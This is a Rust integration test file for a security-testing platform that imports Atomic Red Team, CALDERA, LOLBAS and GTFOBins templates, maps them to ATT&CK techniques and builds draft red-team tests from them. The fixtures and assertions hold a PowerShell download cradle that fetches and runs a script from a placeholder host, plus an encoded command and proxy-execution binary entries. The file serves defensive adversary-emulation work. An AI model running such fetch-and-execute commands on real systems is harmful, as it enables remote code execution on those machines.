//! Test templates and living-off-the-land binaries: imported from Atomic Red Team, CALDERA,
//! LOLBAS and GTFOBins (a directory, an archive), shown on their techniques, and turned into
//! draft tests whose red procedure is filled in.

use std::io::Write;

use reqwest::StatusCode;
use serde_json::{Value, json};

use aegis_application::templates::TemplateImportReport;
use aegis_domain::template::TemplateSource;
use aegis_infrastructure::feeds::rule_files::Location;
use aegis_infrastructure::feeds::template_files::LibraryFiles;

use crate::helpers::*;

const ATOMIC: &str = "attack_technique: T1059.001
display_name: 'Command and Scripting Interpreter: PowerShell'
atomic_tests:
- name: Download cradle
  auto_generated_guid: 7d3b5f1c-0000-4000-8000-00000000a701
  description: |
    Downloads and runs a script in memory.
  supported_platforms:
  - windows
  input_arguments:
    url:
      description: Where the script is
      type: url
      default: https://example.test/payload.ps1
    output:
      description: Where to write
      type: path
      default: null
  dependencies:
  - description: PowerShell 5 or later
    prereq_command: if ($PSVersionTable.PSVersion.Major -ge 5) {exit 0} else {exit 1}
  executor:
    command: |
      IEX (New-Object Net.WebClient).DownloadString('#{url}') > #{output}
    cleanup_command: 'Remove-Item #{output}'
    name: powershell
    elevation_required: false
- name: Encoded command
  auto_generated_guid: 7d3b5f1c-0000-4000-8000-00000000a702
  description: Runs an encoded command.
  supported_platforms: [windows]
  executor:
    command: powershell.exe -enc ZQBjAGgAbwA=
    name: command_prompt
";

const FUTURE: &str = "attack_technique: T1685
atomic_tests:
- name: From a newer ATT&CK
  auto_generated_guid: 7d3b5f1c-0000-4000-8000-00000000a703
  supported_platforms: [linux]
  executor: {name: sh, command: id}
";

const CALDERA: &str = "- id: 9a1b2c3d-0000-4000-8000-0000000ca1de
  name: PowerShell discovery
  description: Lists processes
  tactic: execution
  technique:
    attack_id: T1059.001
    name: PowerShell
  platforms:
    windows:
      psh,pwsh:
        command: Get-Process
";

const LOLBAS: &str = "---
Name: Pwsh.exe
Description: PowerShell 7
Author: Aegis Test Author
Commands:
  - Command: pwsh.exe -c {CMD}
    Description: Runs a command.
    Usecase: Proxy execution
    Category: Execute
    Privileges: User
    MitreID: T1059.001
    OperatingSystem: Windows 10, Windows 11
Full_Path:
  - Path: C:\\Program Files\\PowerShell\\7\\pwsh.exe
";

const FUNCTIONS: &str = "shell:
  label: Shell
  mitre:
  - T1059
file-read:
  label: File read
  mitre:
  - T1005
";

const BASH: &str = "---
functions:
  shell:
  - code: bash
    contexts:
      sudo:
      unprivileged:
...
";

async fn import(
    app: &TestApp,
    source: TemplateSource,
    path: &std::path::Path,
) -> TemplateImportReport {
    let prepared = aegis::app::prepare(&app.settings).await.unwrap();
    let initiator = aegis_application::context::Initiator::System {
        tenant: prepared.tenant.id,
    };
    let feed = LibraryFiles::at(source, Location::Path(path.to_owned()));
    let templates = &prepared.wired.services.templates;
    match source {
        TemplateSource::Atomic | TemplateSource::Caldera => {
            templates.import(&initiator, &feed).await
        }
        TemplateSource::Lolbas | TemplateSource::Gtfobins => {
            templates.import_binaries(&initiator, &feed).await
        }
    }
    .unwrap()
}

async fn read(app: &TestApp, path: &str, token: &str) -> Value {
    let response = app.get(path, token).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    response.json().await.unwrap()
}

fn write(root: &std::path::Path, path: &str, text: &str) {
    let path = root.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

on_both_databases!(
    templates_from_four_libraries_land_on_their_techniques_and_become_tests,
    |app: TestApp| async move {
        app.import_attack(&attack_fixture("enterprise-v1.json"))
            .await;
        let dir = tempfile::tempdir().unwrap();
        let atomics = dir.path().join("atomic-red-team");
        write(&atomics, "atomics/T1059.001/T1059.001.yaml", ATOMIC);
        write(&atomics, "atomics/T1685/T1685.yaml", FUTURE);
        write(
            &atomics,
            "atomics/T1000/T1000.yaml",
            "attack_technique: [unclosed",
        );
        write(&atomics, "atomics/Indexes/index.yaml", "not: a test");
        let report = import(&app, TemplateSource::Atomic, &atomics).await;
        assert_eq!(report.templates.created, 3, "{report:?}");
        assert_eq!(report.skipped.len(), 1, "{report:?}");
        assert_eq!(report.skipped[0].0, "atomics/T1000/T1000.yaml");
        assert_eq!(report.unresolved_techniques, ["T1685"]);
        let again = import(&app, TemplateSource::Atomic, &atomics).await;
        assert_eq!(
            (
                again.templates.created,
                again.templates.updated,
                again.templates.unchanged
            ),
            (0, 0, 3),
            "idempotent"
        );

        // CALDERA from a zip.
        let archive = dir.path().join("stockpile.zip");
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&archive).unwrap());
        zip.start_file(
            "data/abilities/execution/9a1b2c3d.yml",
            zip::write::SimpleFileOptions::default(),
        )
        .unwrap();
        zip.write_all(CALDERA.as_bytes()).unwrap();
        zip.finish().unwrap();
        let caldera = import(&app, TemplateSource::Caldera, &archive).await;
        assert_eq!(caldera.templates.created, 1, "{caldera:?}");

        let lolbas = dir.path().join("lolbas");
        write(&lolbas, "yml/OSBinaries/Pwsh.yml", LOLBAS);
        write(&lolbas, "YML-Template.yml", "Name: Binary.exe");
        let binaries = import(&app, TemplateSource::Lolbas, &lolbas).await;
        assert_eq!(
            (binaries.binaries.created, binaries.templates.created),
            (1, 1),
            "{binaries:?}"
        );

        let gtfobins = dir.path().join("gtfobins");
        write(&gtfobins, "_data/functions.yml", FUNCTIONS);
        write(&gtfobins, "_gtfobins/bash", BASH);
        write(&gtfobins, "CONTRIBUTING.md", "# How to contribute");
        let unix = import(&app, TemplateSource::Gtfobins, &gtfobins).await;
        assert_eq!(
            (unix.binaries.created, unix.templates.created),
            (1, 1),
            "{unix:?}"
        );

        let admin = app.admin_token().await;
        let (_, viewer) = app.user_with_role(&admin, "viewer").await;
        let (_, lead) = app.user_with_role(&admin, "red_lead").await;
        let listed = read(&app, "/api/v1/test-templates?technique=t1059.001", &viewer).await;
        assert_eq!(listed["total"], 4, "{listed}");
        let atomic_only = read(
            &app,
            "/api/v1/test-templates?source=atomic&platform=windows",
            &viewer,
        )
        .await;
        assert_eq!(atomic_only["total"], 2);
        let searched = read(&app, "/api/v1/test-templates?q=CRADLE", &viewer).await;
        assert_eq!(searched["total"], 1);
        let bad = app
            .get("/api/v1/test-templates?source=metasploit", &viewer)
            .await;
        assert_eq!(problem(bad).await["errors"][0]["field"], "source");

        let cradle = searched["items"][0]["id"].as_str().unwrap().to_owned();
        let detail = read(&app, &format!("/api/v1/test-templates/{cradle}"), &viewer).await;
        assert_eq!(detail["licence"], "MIT");
        assert_eq!(detail["input_arguments"][1]["name"], "url");
        assert_eq!(
            detail["dependencies"][0]["description"],
            "PowerShell 5 or later"
        );
        assert_eq!(detail["executors"][0]["name"], "powershell");

        let technique = read(&app, "/api/v1/techniques/T1059.001", &viewer).await;
        assert_eq!(technique["templates"].as_array().unwrap().len(), 4);
        assert_eq!(technique["lol_binaries"][0]["name"], "Pwsh.exe");
        assert_eq!(technique["lol_binaries"][0]["licence"], "GPL-3.0");
        let shell = read(&app, "/api/v1/techniques/T1059", &viewer).await;
        assert_eq!(
            shell["lol_binaries"][0]["uses"][0]["privileges"],
            "sudo, unprivileged"
        );

        // Turning a template into a test: leads only; arguments checked; defaults filled.
        let post = |token: String, body: Value| {
            let app = &app;
            async move {
                app.client
                    .post(app.url("/api/v1/tests/from-template"))
                    .bearer_auth(token)
                    .json(&body)
                    .send()
                    .await
                    .unwrap()
            }
        };
        let forbidden = post(viewer.clone(), json!({"template_id": cradle})).await;
        assert_eq!(forbidden.status(), StatusCode::FORBIDDEN);
        let missing = post(lead.clone(), json!({"template_id": cradle})).await;
        assert_eq!(
            problem(missing).await["errors"][0]["field"],
            "input_arguments.output"
        );
        let unknown = post(
            lead.clone(),
            json!({"template_id": cradle, "input_arguments": {"output": "C:\\o.txt", "nope": "x"}}),
        )
        .await;
        assert_eq!(
            problem(unknown).await["errors"][0]["field"],
            "input_arguments.nope"
        );
        let wrong_platform = post(
            lead.clone(),
            json!({"template_id": cradle, "platform": "linux", "input_arguments": {"output": "o"}}),
        )
        .await;
        assert_eq!(
            problem(wrong_platform).await["errors"][0]["field"],
            "platform"
        );
        let nowhere = post(lead.clone(), json!({"template_id": uuid::Uuid::new_v4()})).await;
        assert_eq!(nowhere.status(), StatusCode::NOT_FOUND);

        let created = post(
            lead.clone(),
            json!({"template_id": cradle, "input_arguments": {"output": "C:\\o.txt"}, "target_environment": "WS-042"}),
        )
        .await;
        assert_eq!(created.status(), StatusCode::CREATED);
        let test: Value = created.json().await.unwrap();
        assert_eq!(test["state"], "draft");
        assert_eq!(test["technique_id"], "T1059.001");
        assert_eq!(test["platform"], "windows");
        assert_eq!(test["title"], "Download cradle (Atomic Red Team)");
        assert_eq!(
            test["red"]["command"],
            "IEX (New-Object Net.WebClient).DownloadString('https://example.test/payload.ps1') > C:\\o.txt"
        );
        assert!(
            test["red"]["procedure"]
                .as_str()
                .unwrap()
                .contains("Remove-Item C:\\o.txt"),
            "{test}"
        );
        assert!(
            test["red"]["tool"]
                .as_str()
                .unwrap()
                .starts_with("Atomic Red Team 7d3b5f1c")
        );

        // A template for a technique the catalog does not know yet cannot become a test.
        let future = read(&app, "/api/v1/test-templates?technique=T1685", &viewer).await;
        let future_id = future["items"][0]["id"].as_str().unwrap();
        let refused = post(lead.clone(), json!({"template_id": future_id})).await;
        assert_eq!(problem(refused).await["errors"][0]["field"], "technique_id");
    }
);

on_both_databases!(
    atomic_red_team_online_reads_the_github_tree_and_raw_files_with_the_token,
    |app: TestApp| async move {
        app.import_attack(&attack_fixture("enterprise-v1.json"))
            .await;
        let tree = json!({"sha": "0a1b2c", "truncated": false, "tree": [
            {"path": "atomics", "type": "tree"},
            {"path": "atomics/T1059.001/T1059.001.yaml", "type": "blob", "size": ATOMIC.len()},
            {"path": "atomics/Indexes/index.yaml", "type": "blob", "size": 10},
            {"path": "README.md", "type": "blob", "size": 10},
            {"path": "atomics/huge.yaml", "type": "blob", "size": 1_000_000_000},
        ]});
        let served = crate::feed_server::serve(std::collections::HashMap::from([
            (
                "/api/v3/repos/redcanaryco/atomic-red-team/git/trees/master?recursive=1".to_owned(),
                (200, tree.to_string().into_bytes()),
            ),
            (
                "/raw/redcanaryco/atomic-red-team/0a1b2c/atomics/T1059.001/T1059.001.yaml"
                    .to_owned(),
                (200, ATOMIC.as_bytes().to_vec()),
            ),
        ]))
        .await;
        let prepared = aegis::app::prepare(&app.settings).await.unwrap();
        let initiator = aegis_application::context::Initiator::System {
            tenant: prepared.tenant.id,
        };
        let feed = LibraryFiles::at(
            TemplateSource::Atomic,
            Location::AuthorizedUrl {
                url: format!(
                    "{}/api/v3/repos/redcanaryco/atomic-red-team/git/trees/master?recursive=1",
                    served.base
                ),
                token: "ghp_tree-token".to_owned(),
            },
        );
        let report = prepared
            .wired
            .services
            .templates
            .import(&initiator, &feed)
            .await
            .unwrap();
        assert_eq!(report.templates.created, 2, "{report:?}");
        assert_eq!(report.skipped.len(), 1, "the oversized file: {report:?}");
        let heads = served.requests.lock().unwrap().clone();
        assert_eq!(
            heads.len(),
            2,
            "the listing and the one wanted file: {heads:?}"
        );
        assert!(heads.iter().all(|h| {
            h.to_ascii_lowercase()
                .contains("authorization: bearer ghp_tree-token")
        }));
    }
);

on_both_databases!(
    a_template_naming_a_revoked_technique_lands_on_its_successor,
    |app: TestApp| async move {
        app.import_attack(&attack_fixture("enterprise-v1.json"))
            .await;
        let dir = tempfile::tempdir().unwrap();
        let atomics = dir.path().join("atomic-red-team");
        write(
            &atomics,
            "atomics/T1086/T1086.yaml",
            "attack_technique: T1086
atomic_tests:
- name: PowerShell by its old id
  auto_generated_guid: 7d3b5f1c-0000-4000-8000-00000000a786
  supported_platforms: [windows]
  executor: {name: powershell, command: Get-Process}
",
        );
        let report = import(&app, TemplateSource::Atomic, &atomics).await;
        assert!(report.unresolved_techniques.is_empty(), "{report:?}");
        assert_eq!(report.replaced_techniques.len(), 1, "{report:?}");

        let admin = app.admin_token().await;
        let (_, lead) = app.user_with_role(&admin, "red_lead").await;
        let listed = read(&app, "/api/v1/test-templates?technique=T1059.001", &lead).await;
        assert_eq!(listed["total"], 1, "{listed}");
        assert_eq!(listed["items"][0]["technique"], "T1059.001");
        assert_eq!(listed["items"][0]["named_as"], "T1086");
        let id = listed["items"][0]["id"].as_str().unwrap().to_owned();
        let created = app
            .client
            .post(app.url("/api/v1/tests/from-template"))
            .bearer_auth(&lead)
            .json(&json!({"template_id": id}))
            .send()
            .await
            .unwrap();
        assert_eq!(created.status(), StatusCode::CREATED);
        let test: Value = created.json().await.unwrap();
        assert_eq!(test["technique_id"], "T1059.001", "tested where it counts");
    }
);
